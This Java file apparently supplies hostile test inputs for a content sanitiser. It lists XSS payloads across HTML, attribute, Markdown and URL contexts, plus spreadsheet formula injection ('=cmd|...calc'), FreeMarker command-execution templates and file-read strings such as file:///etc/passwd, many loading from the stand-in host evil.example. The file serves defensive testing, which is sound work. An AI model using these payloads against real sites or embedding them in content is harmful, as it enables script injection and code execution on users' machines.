package org.saheltimeline.hostile;

import java.util.ArrayList;
import java.util.List;

/**
 * Texts that do harm where they are let through: a script of theirs sets {@code owned} in the page.
 *
 * <p>The ways are those of OWASP's list, written anew; a few are this generator's own (its gaps, its templates).
 *
 * @see <a href="https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html">OWASP, XSS Filter
 *     Evasion Cheat Sheet</a>
 */
final class Attacks {

    private static final List<String> MARKUP = List.of(
            "<script>owned=1</script>",
            "<ScRiPt>owned=1</sCrIpT>",
            "<script/x>owned=1</script >",
            "<script src=https://evil.example/a.js></script>",
            "<script src=//evil.example/b.js>",
            "<<script>owned=1//<</script>",
            "<scr<script>ipt>owned=1</scr</script>ipt>",
            "</script><script>owned=1</script>",
            "</title><script>owned=1</script>",
            "</style><script>owned=1</script>",
            "</textarea></noscript></template><script>owned=1</script>",
            "--><script>owned=1</script><!--",
            "]]><script>owned=1</script><![CDATA[",
            "<img src=x onerror=owned=1>",
            "<img src=x onerror=\"owned=1\"",
            "<img src=`x`onerror=`owned=1`>",
            "<img/src/onerror=owned=1>",
            "<img\u00a0src=x\u00a0onerror=owned=1>",
            "<img src=https://evil.example/i.png>",
            "<svg onload=owned=1>",
            "<svg><script>owned&#61;1</script></svg>",
            "<svg><animate onbegin=owned=1 attributeName=x dur=1s>",
            "<svg><use href=https://evil.example/u.svg#x></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=owned=1></style></mglyph></table></mtext></math>",
            "<math href=javascript:owned=1>x</math>",
            "<body onload=owned=1>",
            "<details open ontoggle=owned=1>x</details>",
            "<input autofocus onfocus=owned=1>",
            "<video><source onerror=owned=1></video>",
            "<marquee onstart=owned=1>x</marquee>",
            "<iframe src=javascript:owned=1></iframe>",
            "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
            "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
            "<base href=https://evil.example/>",
            "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
            "<link rel=stylesheet href=https://evil.example/s.css>",
            "<style>@import 'https://evil.example/t.css';*{color:red}</style>",
            "<p style=\"background:url(https://evil.example/p)\">x</p>",
            "<form action=https://evil.example/><button>x</button></form>",
            "<a href=javascript:owned=1>x</a>",
            "<a id=main name=siteSearch>clobbers</a>",
            "<!--",
            "<plaintext>",
            "<![CDATA[",
            "<?xml-stylesheet href='https://evil.example/x.xsl'?>",
            "&lt;script&gt;owned=1&lt;/script&gt;",
            "&#60;script&#62;owned=1&#60;/script&#62;",
            "\\u003cscript\\u003eowned=1",
            "%3Cscript%3Eowned=1%3C/script%3E",
            "＜script＞owned=1＜/script＞");

    private static final List<String> OUT_OF_AN_ATTRIBUTE = List.of(
            "\" onmouseover=\"owned=1\" autofocus onfocus=\"owned=1",
            "' onmouseover='owned=1' autofocus onfocus='owned=1",
            "` onmouseover=`owned=1`",
            "x onfocus=owned=1 autofocus",
            "\"><script>owned=1</script>",
            "'><script>owned=1</script>",
            "/><script>owned=1</script>",
            "\\\"><script>owned=1</script>",
            "&quot; onmouseover=&quot;owned=1");

    private static final List<String> MARKDOWN = List.of(
            "[x](javascript:owned=1)",
            "[x](JaVaScRiPt:owned=1)",
            "[x](&#106;avascript&colon;owned=1)",
            "[x](java&Tab;script:owned=1)",
            "[x](<java&NewLine;script:owned=1>)",
            "[x](\u00a0javascript:owned=1)",
            "[x](&#1;javascript:owned=1)",
            "[x](&#xFDD0;javascript:owned=1)",
            "[x](&#xFDD0;//evil.example/)",
            "[x](vbscript:owned)",
            "[x](data:text/html;base64,PHNjcmlwdD5vd25lZD0xPC9zY3JpcHQ+)",
            "[x](file:///etc/passwd)",
            "[x](//evil.example/)",
            "[x](/evil)",
            "[x](\\\\evil.example)",
            "[x](https://example.org/ \"t\\\" onmouseover=owned=1 x=\\\"\")",
            "[x](https://example.org/\"onmouseover=owned=1)",
            "[x](https://example.org/'onmouseover='owned=1)",
            "![x](https://evil.example/i.png)",
            "![x\" onerror=\"owned=1](x)",
            "<javascript:owned=1>",
            "<data:text/html,x>",
            "[x]: javascript:owned=1",
            "# main",
            "## sources",
            "```\"><script>owned=1</script>\nx\n```",
            "    <script>owned=1</script>",
            "`</code><script>owned=1</script>`",
            "| <script>owned=1</script> |\n|---|\n| <img src=x onerror=owned=1> |",
            "[^<img src=x onerror=owned=1>]",
            "www.evil.example/\"onmouseover=\"owned=1",
            "https://example.org/?\"><script>owned=1</script>");

    private static final List<String> OF_OTHER_READERS = List.of(
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-1+1",
            "@SUM(1)",
            "=HYPERLINK(\"https://evil.example/\",\"x\")",
            "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
            "<#assign x=1><@f.page/>",
            "[=1+1] #{7*7} {{7*7}}",
            "{0} {1} {2}",
            "$1 \\1 %s %n {}",
            "\\u0022;owned=1//",
            "';owned=1//",
            "\"};owned=1//",
            "\\textbackslash{}} \\input{/etc/passwd}",
            "}} |url=javascript:owned=1 {{",
            "http://evil.example/ <https://evil.example/>");

    private Attacks() {}

    /** All that no reader of content refuses. */
    static List<String> all() {
        List<String> all = new ArrayList<>();
        List.of(MARKUP, OUT_OF_AN_ATTRIBUTE, MARKDOWN, OF_OTHER_READERS).forEach(all::addAll);
        return all;
    }

    /** Addresses of the web that may stand where one is asked for, and must stay what they are. */
    static List<String> addresses() {
        return List.of(
                "https://example.org/?q='onmouseover='owned=1",
                "https://example.org/;owned=1//",
                "https://example.org/#%22%3E%3Cscript%3Eowned=1%3C/script%3E",
                "https://example.org/&quot;&gt;&lt;script&gt;",
                "http://javascript:owned@example.org/$1/(0)");
    }

    /** What is no address of the web, whatever it looks like. */
    static List<String> noAddresses() {
        return List.of(
                "javascript:owned=1",
                "JAVASCRIPT:owned=1",
                "java\tscript:owned=1",
                "data:text/html,<script>owned=1</script>",
                "vbscript:owned",
                "//evil.example/",
                "https:evil.example",
                "https://",
                "https://example.org/\" onmouseover=\"owned=1",
                "https://example.org/<script>",
                "https://example.org/\u00a0x y",
                "file:///etc/passwd",
                "mailto:x@example.org?body=x");
    }
}
